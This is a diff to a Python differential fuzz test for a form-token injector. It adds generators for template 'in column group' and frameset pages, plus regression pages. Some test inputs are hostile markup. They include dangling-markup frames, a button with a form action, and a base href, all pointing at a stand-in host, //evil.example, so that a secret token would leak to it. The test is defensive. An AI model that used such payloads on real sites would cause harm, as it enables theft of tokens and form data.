@@ -4,7 +4,10 @@
 
 Generates pages that mix same-origin and cross-origin forms, foreign
 content (svg, math, integration points, breakout tags, CDATA), templates,
-tables, select, comments, raw-text elements, noscript and <base>; runs the
+tables, select, comments, raw-text elements, noscript and <base>, and
+after every fourth an extra page (make_extra_page, an rng of its own):
+template contents "in column group" (a <col> first) or a frameset, with
+the raw-text tags those modes ignore; runs the
 injector over each (whole and split at random points, through
 inject_driver, which also checks that both agree and that the output
 without the insertions is the page), builds the tree of the output with
@@ -231,12 +234,23 @@ REGRESSIONS = [
     "<table><tbody><svg><template></table>" + REAL,
     # "in frameset" drops a <title> or <textarea> start tag: the form read
     # after it was inside a <frame src> to another origin, with the token
-    # (review of the template fix, 2026-12; the generator makes no
-    # frameset); the injector stops at a <frameset> now
+    # (review of the template fix, 2026-12; the generator made no
+    # frameset then: make_extra_page makes them); the injector stops at a
+    # <frameset> now
     "<frameset><title><frame src='//evil.example/?</title>" + REAL + "'>",
     # (in body too: a <div> and whitespace leave the frameset-ok flag set)
     "<head><title>t</title></head><div class=a>\n<frameset><textarea><frame src='//evil.example/?</textarea>" + REAL +
     "'>",
+    # Template contents "in column group" (a <col> first), which the
+    # injector follows now instead of stopping: a <title> there is ignored,
+    # and the button after </template> is read (an injector that took the
+    # <title> for raw text gives f the token: flagged); after a <title>
+    # Chromium reads the <col> "in body" (dropped), and the <title> after
+    # it is raw text holding the form (an injector that took the contents
+    # for "in column group" there: the token in the title's text)
+    "<template><col><title></template><button form=f formaction=//evil.example/></title></template>"
+    "<form id=f method=post action=/f><input name=a></form>" + REAL,
+    "<template><title>t</title><col><title></template>" + REAL,
 ]
 
 # Wrong placements by hand, judged without the injector: the oracle must
@@ -300,6 +314,110 @@ def make_page(rng):
     return "".join(parts)
 
 
+# Pages make_page makes rarely or never, where what a misreading tokenizer
+# would take for raw text follows markup the tree builder ignores:
+# template contents whose first start tag is <col> ("in column group"
+# with the template current: every start tag but col and template
+# ignored, so a <title>, <script>, <plaintext> starts no raw text and an
+# <svg> no foreign content; HTML 13.2.6.4.12), or whose first start tag is
+# another (a <col> after it ignored), nested; and framesets ("in
+# frameset": every start tag but frameset, frame and noframes ignored).
+# Made by make_extra_page with an rng of their own (main: one after every
+# fourth random page), so that a seed's random pages stay the same.
+COLGROUP_CONTEXTS = ["<table>", "<table><colgroup>", "<table><tr><td>", "<div>", "<table><caption>",
+                     "<table><colgroup span=2>"]
+TEMPLATE_FIRST = ["<col>", "<col span=2>", "<COL/>", "<link rel=x>", "<meta charset=utf-8>", "<script></script>",
+                  "<style>p{}</style>", "<template></template>", "<template><col></template>", "<title>t</title>",
+                  "<base href=/b/>", "<basefont>", "<bgsound>", "<noframes>n</noframes>", "<span>",
+                  "<div class=x>", "<button>", "<input name=i>", "<form>", "<tr>", "<td>", "<colgroup>", "<p>", "x",
+                  "<!-- c -->", "</col>", "</template>"]
+COLGROUP_IGNORED = ["<title>", "<script>", "<style>", "<textarea>", "<xmp>", "<iframe>", "<noembed>", "<noframes>",
+                    "<noscript>", "<plaintext>", "<svg>", "<math>", "<select>", "<![CDATA[", "<frameset>", "<head>",
+                    "<body>", "<html>", "<base href=//evil.example/>", "<a href=/x>", "<tr>", "<td>", "<table>",
+                    "<col>", "</colgroup>", "</table>", "</col>", "<caption>", "<option>", "x", "<!--", "-->",
+                    "<svg><![CDATA[", "<form method=post action=/x><input name=a>", "<input type=submit>"]
+RAW_CLOSERS = ["</title>", "</script>", "</style>", "</textarea>", "</xmp>", "</iframe>", "</noembed>", "</noframes>",
+               "</noscript>", "]]>", "</svg>", "</select>", "</template>", "</template>"]
+FRAMESET_BEFORE = ["<!doctype html>", "<html>", "<head><title>t</title></head>", "\n", " ", "<div>",
+                   "<div class=a>\n", "<!-- c -->", "<base href=/app/>", "<p>", "x", "<span>",
+                   "<input type=hidden name=h>", "<template></template>", REAL, "<form method=post action=/x>",
+                   "</form>", "<body>", "</head>"]
+FRAMESETS = ["<frameset>", "<frameset rows=*>", "<FRAMESET cols='50%,50%'>", "<frameset onload=x>"]
+FRAMESET_INNER = ["<frame src=/f>", "<frame src='//evil.example/?", "'>", "<noframes>", "</noframes>",
+                  "<frameset>", "</frameset>", "<title>", "</title>", "<textarea>", "</textarea>", "<style>",
+                  "</style>", "<script>", "</script>", "<xmp>", "</xmp>", "<iframe>", "<noembed>", "<plaintext>",
+                  "<noscript>", "</noscript>", "<template>", "<template><col>", "</template>", "<col>", "<svg>",
+                  "<body>", "</html>", "</body>", "<frame src=\"/f?", "\">"]
+
+
+def colgroup_template(rng, depth=0):
+    """A template whose contents may be "in column group", with what that
+    mode ignores, forms, submitters and raw-text end tags inside."""
+    parts = [rng.choice(COLGROUP_CONTEXTS) if depth == 0 and rng.random() < 0.5 else "", "<template>"]
+    for _ in range(rng.choice((0, 0, 0, 1, 1, 2))):
+        parts.append(rng.choice(TEMPLATE_FIRST))
+    if rng.random() < 0.75:
+        parts.append(rng.choice(("<col>", "<col>", "<COL span=2>", "<col/>")))
+    for _ in range(rng.randint(0, 7)):
+        r = rng.random()
+        if r < 0.4:
+            parts.append(rng.choice(COLGROUP_IGNORED))
+        elif r < 0.6:
+            parts.append(fragment(rng, True))
+        elif r < 0.7 and depth < 2:
+            parts.append(colgroup_template(rng, depth + 1))
+        elif r < 0.9:
+            parts.append(rng.choice(RAW_CLOSERS))
+        else:
+            parts.append(rng.choice(("<col>", "<template>", "</colgroup>")))
+    if rng.random() < 0.9:
+        parts.append("</template>")
+    if depth == 0 and rng.random() < 0.5:
+        parts.append(rng.choice(("</colgroup>", "</table>", "</td></tr></table>", "<tr><td>")))
+    return "".join(parts)
+
+
+def frameset_part(rng):
+    """A frameset the browser may take (after whitespace, a <div>, a
+    hidden input) or drop (after text, most elements), with the start
+    tags "in frameset" ignores and frames whose src a misread form lands in."""
+    parts = [rng.choice(FRAMESET_BEFORE) for _ in range(rng.randint(0, 3))]
+    parts.append(rng.choice(FRAMESETS))
+    for _ in range(rng.randint(1, 8)):
+        r = rng.random()
+        if r < 0.6:
+            parts.append(rng.choice(FRAMESET_INNER))
+        elif r < 0.7:
+            parts.append(REAL)
+        else:
+            parts.append(fragment(rng, False))
+    return "".join(parts)
+
+
+def make_extra_page(rng):
+    """A page of template contents "in column group" (and beside it) or of
+    a frameset, among make_page's fragments, ending with a real form."""
+    parts = []
+    frameset = rng.random() < 0.3
+    if not frameset and rng.random() < 0.4:
+        parts.append("<!doctype html><html><head><title>t</title></head><body>")
+    for _ in range(rng.randint(0, 4)):
+        parts.append(fragment(rng, False))
+    if frameset:
+        parts.append(frameset_part(rng))
+    else:
+        for _ in range(rng.randint(1, 3)):
+            parts.append(colgroup_template(rng))
+            for _ in range(rng.randint(0, 3)):
+                r = rng.random()
+                parts.append(rng.choice(RAW_CLOSERS) if r < 0.3 else
+                             rng.choice(SUBMITTERS) if r < 0.6 else fragment(rng, False))
+    for _ in range(rng.randint(0, 6)):
+        parts.append(rng.choice(SUBMITTERS) if rng.random() < 0.3 else fragment(rng, False))
+    parts.append(rng.choice(SAME_FORMS) + "<input name=a><button>Go</button></form>")
+    return "".join(parts)
+
+
 def template_open(tree):
     return any(e.name == "template" and e.namespace == tree.defaultNamespace for e in tree.openElements)
 
@@ -352,6 +470,9 @@ def patch_scopes():
 # <noframes> or <title> there as "any other start tag" (the "in body"
 # mode for the rest of the template, so a <col> after it is dropped);
 # the oracle follows the browser. Either way it is template contents.
+# (Firefox 153 reads them by the "in head" rules, as the spec: a <col>
+# after them puts the contents "in column group". The injector stops at
+# such a <col>.)
 TEMPLATE_HEAD = ("link", "meta", "script", "style", "template")
 TEMPLATE_SWITCH = {"caption": "inTable", "colgroup": "inTable", "tbody": "inTable", "tfoot": "inTable",
                    "thead": "inTable", "col": "inColumnGroup", "tr": "inTableBody", "td": "inRow",
@@ -977,18 +1098,28 @@ def main():
                 print("output: " + out)
                 return 1
     drv = subprocess.Popen([args.driver], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
-    pages_with_token = tokens = owned = 0
+    pages_with_token = tokens = owned = extras = 0
     fixed = len(FIXED)
-    for k in range(fixed + len(REGRESSIONS) + args.pages):
-        # n: the page's number (random pages keep theirs of before the
-        # regressions came), label: how it is named
-        if k < fixed:
-            n, page, cut_rng = k, FIXED[k], rng
-        elif k < fixed + len(REGRESSIONS):
-            n, page, cut_rng = -1, REGRESSIONS[k - fixed], random.Random(k)
-        else:
-            n, page, cut_rng = k - len(REGRESSIONS), make_page(rng), rng
-        label = "page %d" % n if n >= 0 else "regression %d" % (k - fixed)
+    # the extra pages' own rng, for their pages and cuts
+    xrng = random.Random("extra %d" % args.seed)
+
+    def pages():
+        """(n, label, page, cut rng): n the page's number (random pages keep
+        theirs of before the regressions came; -1 for the others)."""
+        for k in range(fixed + len(REGRESSIONS) + args.pages):
+            if k < fixed:
+                yield k, "page %d" % k, FIXED[k], rng
+            elif k < fixed + len(REGRESSIONS):
+                yield -1, "regression %d" % (k - fixed), REGRESSIONS[k - fixed], random.Random(k)
+            else:
+                n = k - len(REGRESSIONS)
+                yield n, "page %d" % n, make_page(rng), rng
+                if (n - fixed) % 4 == 3:
+                    x = (n - fixed) // 4
+                    yield -1, "extra page %d" % x, make_extra_page(xrng), xrng
+
+    for n, label, page, cut_rng in pages():
+        extras += label.startswith("extra")
         page = page.encode("latin-1")
         cuts = sorted(cut_rng.sample(range(1, len(page)), min(len(page) - 1, cut_rng.randint(0, 8))))
         drv.stdin.write(("%d %d %s\n" % (len(page), len(cuts), " ".join(map(str, cuts)))).encode())
@@ -1024,9 +1155,10 @@ def main():
     if drv.wait() != 0:
         print("the driver failed (exit %d)" % drv.returncode)
         return 1
-    print("html5lib differential: %d pages, %d with a token, %d tokens, %d same-origin owners "
-          "(scripting on and off), 0 leaks, %d owners left undecided (a <base> html5lib may have taken out "
-          "of a template)" % (args.pages, pages_with_token, tokens, owned, len(UNDECIDED)))
+    print("html5lib differential: %d pages and %d extra ones (template column groups, framesets), %d with a "
+          "token, %d tokens, %d same-origin owners (scripting on and off), 0 leaks, %d owners left undecided (a "
+          "<base> html5lib may have taken out of a template)" %
+          (args.pages, extras, pages_with_token, tokens, owned, len(UNDECIDED)))
     if len(UNDECIDED) * 100 > args.pages:
         print("more than 1%% of the pages undecided: the oracle no longer judges enough of them")
         return 1
